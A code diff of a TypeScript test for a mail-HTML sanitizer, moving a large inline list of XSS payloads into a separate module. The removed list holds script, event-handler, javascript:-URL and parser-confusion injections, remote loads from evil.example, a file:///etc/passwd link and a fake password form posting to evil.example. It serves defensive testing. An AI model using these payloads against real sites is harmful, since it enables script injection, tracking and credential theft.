@@ -1,8 +1,9 @@
 // G14: HTML of strangers, through the mail door and out by the API: whatever was sent, what `MessagePart.html` gives runs nothing, loads nothing and
-// leads nowhere unasked. It is held against a grammar so narrow that no two parsers can read it differently. (A real browser comes with the next issue.)
+// leads nowhere unasked. It is held against a grammar so narrow that no two parsers can read it differently. (A real browser: html-browser.test.ts.)
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { publicId } from '../../src/platform/ids.ts';
 import { startTestServer, type TestServer, type TestWorkspace } from '../harness/server.ts';
+import { PAYLOADS } from './html-payloads.ts';
 import { quiet } from './world.ts';
 
 const SECRET = 'the-secret-of-the-mail-door';
@@ -16,33 +17,6 @@ beforeAll(async () => {
   hook = `${server.address}/hooks/mime/${publicId('end', endpointId)}`;
 });
 afterAll(() => server.stop());
-
-const run = 'alert(1)';
-const evil = 'https://evil.example';
-/** Written for this test, after the kinds of payload that are commonly listed. */
-const PAYLOADS: string[] = [
-  // Scripts, plain, broken and hidden.
-  `<script>${run}</script>`, `<SCRIPT SRC=${evil}/x.js></SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script/x>${run}</script >`, `<script\n>${run}</script\n>`, `</p><script>${run}//`, `<script>/*</script><script>*/${run}</script>`,
-  `<!--><script>${run}</script>-->`, `<!--<img src="--><script>${run}</script>">`, `<![CDATA[<script>${run}</script>]]>`, `<?php echo 1 ?><?xml-stylesheet href="javascript:${run}"?>`, `<!DOCTYPE x [<!ENTITY y "<script>">]>&y;`, `\ufeff<script>${run}</script>`, `<script\u0000>${run}</script>`, `<\u0000script>${run}</script>`,
-  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}`, `\\u003cscript\\u003e${run}`, `＜script＞${run}＜/script＞`, `%3Cscript%3E${run}`,
-  // Handlers.
-  `<img src=x onerror=${run}>`, `<img src=x onerror =${run}>`, `<img/src=x/onerror=${run}>`, `<img src="x\`onerror=${run}">`, `<IMG SRC=x OnErRoR="${run}">`, `<img src=x on\u0000error=${run}>`, `<img src='x'onerror='${run}'>`, `<img src=x onerror&equals;${run}>`, `<img """><b onmouseover="${run}">x</b>`,
-  `<body onload=${run}>x`, `<div onclick=${run} style="width:100%">x</div>`, `<details open ontoggle=${run}>x</details>`, `<marquee onstart=${run}>x</marquee>`, `<input autofocus onfocus=${run}>`, `<select onfocus=${run} autofocus>`, `<video onerror=${run}><source></video>`, `<audio src onloadstart=${run}>`, `<p onpointerenter=${run} onanimationstart=${run} onbegin=${run}>x</p>`,
-  `<a title="' onclick='${run}'" href=${evil}>x</a>`, `<a title="&quot; onclick=&quot;${run}" href=${evil}>x</a>`, `<img alt="<img src=x onerror=${run}>" src=${evil}/p.gif>`, `<b title="\`-->'" onx=1 ${run}>x</b>`, `<font color="red\u0022 onclick=${run}">x</font>`,
-  // Addresses that run.
-  `<a href="javascript:${run}">x</a>`, `<a href="JaVaScRiPt:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="java&NewLine;script:${run}">x</a>`, `<a href="&#106;avascript&colon;${run}">x</a>`, `<a href="\u0001javascript:${run}">x</a>`, `<a href="javascript&#0058;${run}">x</a>`,
-  `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="vbscript:${run}">x</a>`, `<a href="blob:${evil}/x">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="view-source:${evil}">x</a>`, `<a href="intent://x#Intent;scheme=x;end">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/graphql?query=mutation">x</a>`, `<a href="https:javascript:${run}">x</a>`,
-  `<img src="javascript:${run}">`, `<img src="data:image/svg+xml,<svg onload=${run}>">`, `<img src="data:text/html,x">`, `<img src="data:image/png;base64,x&quot; onerror=&quot;${run}">`, `<form action="javascript:${run}"><button>x</button></form>`, `<button formaction="javascript:${run}">x</button>`, `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>">`, `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`, `<base href="javascript:${run}//">`, `<link rel=import href="${evil}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<isindex action="javascript:${run}" type=image>`,
-  // Foreign content and parsers that disagree.
-  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><animate onbegin=${run} attributeName=x></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`, `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`, `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
-  `<math><maction actiontype="statusline#" xlink:href="javascript:${run}">x</maction></math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`, `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<textarea><p title="</textarea><img src=x onerror=${run}>">`, `<title><p title="</title><img src=x onerror=${run}>">`, `<style><img title="</style><img src=x onerror=${run}>">`, `<plaintext><img src=x onerror=${run}>`, `<template><img src=x onerror=${run}></template>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`, `<table><td><svg><desc><td></desc><img src=x onerror=${run}>`, `<a href="x" <b onclick=${run}>x`, `<b <script>${run}</script>`, `<${'b '.repeat(2_000)}onclick=${run}>x`, `${'<div>'.repeat(600)}<img src=x onerror=${run}>`,
-  // Loads without being asked.
-  `<img src="${evil}/pixel.gif">`, `<img srcset="${evil}/pixel.gif 1x">`, `<img src=x lowsrc=${evil}/p.gif dynsrc=${evil}/p.gif longdesc=${evil}>`, `<picture><source srcset=${evil}/p.gif><img></picture>`, `<input type=image src=${evil}/p.gif>`, `<video poster=${evil}/p.gif></video>`, `<audio src=${evil}/a.mp3 autoplay>`, `<table background="${evil}/p.gif"><tr><td background=${evil}/q.gif>x`, `<body background=${evil}/p.gif>x`, `<link rel=stylesheet href=${evil}/x.css>`, `<link rel=preconnect href=${evil}>`, `<style>@import "${evil}/x.css"; body { background: url(${evil}) }</style>`, `<object data=${evil}/x.swf>`, `<embed src=${evil}/x.swf>`, `<iframe src=${evil}>`, `<a href=${evil} ping=${evil}/ping>x</a>`, `<bgsound src=${evil}/a.mid>`, `<applet code=x archive=${evil}>`, `<layer src=${evil}>`, `<portal src=${evil}>`, `<track src=${evil}>`,
-  // Styles.
-  `<p style="background:url(${evil}/p.gif)">x</p>`, `<p style="background-image:u\\72l(${evil})">x</p>`, `<p style="background:image-set('${evil}/p.gif' 1x)">x</p>`, `<p style="list-style-image:url(${evil})">x</p>`, `<p style="content:url(${evil})">x</p>`, `<p style="cursor:url(${evil}),auto">x</p>`, `<p style="width:expression(${run})">x</p>`, `<p style="-moz-binding:url(${evil}#x)">x</p>`, `<p style="behavior:url(x.htc)">x</p>`, `<p style="color:red;/*;*/background:url(${evil})">x</p>`, `<p style='color:red" onclick=${run}'>x</p>`, `<p style="color:red;}</style><script>${run}</script>">x</p>`, `<p style="position:fixed;inset:0;z-index:9999">x</p>`, `<p style="font-family:'x&quot; onclick=&quot;${run}'">x</p>`, `<p style="color:var(--x,url(${evil}))">x</p>`, `<p style="@import '${evil}'">x</p>`,
-  // What it could take over.
-  `<form action=${evil} method=post><input name=password type=password><button>Log in</button></form>`, `<div id=location name=cookie class=admin>x</div>`, `<img name=getElementById>`, `<a id=x href=${evil} target=_top rel=opener>x</a>`, `<base target=_parent href=${evil}>`, `<dialog open>x</dialog>`, `<p contenteditable tabindex=1 accesskey=x draggable=true>x</p>`, `<label for=x>x</label><output form=y>x</output>`, `<slot name=x></slot><p is=x-y part=z>x</p>`,
-];
 
 const TAGS = /^(?:a|abbr|address|b|bdi|bdo|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|font|figcaption|figure|h[1-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|section|article|header|footer|main|nav|aside|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr|big|details|summary|rt|rp|ruby|data|hgroup)$/;
 const ATTRIBUTES = /^(?:style|dir|lang|title|align|valign|width|height|bgcolor|color|href|target|rel|name|src|alt|data-remote-src|border|face|size|cellpadding|cellspacing|summary|colspan|rowspan|nowrap|scope|start|type|datetime|cite)$/;
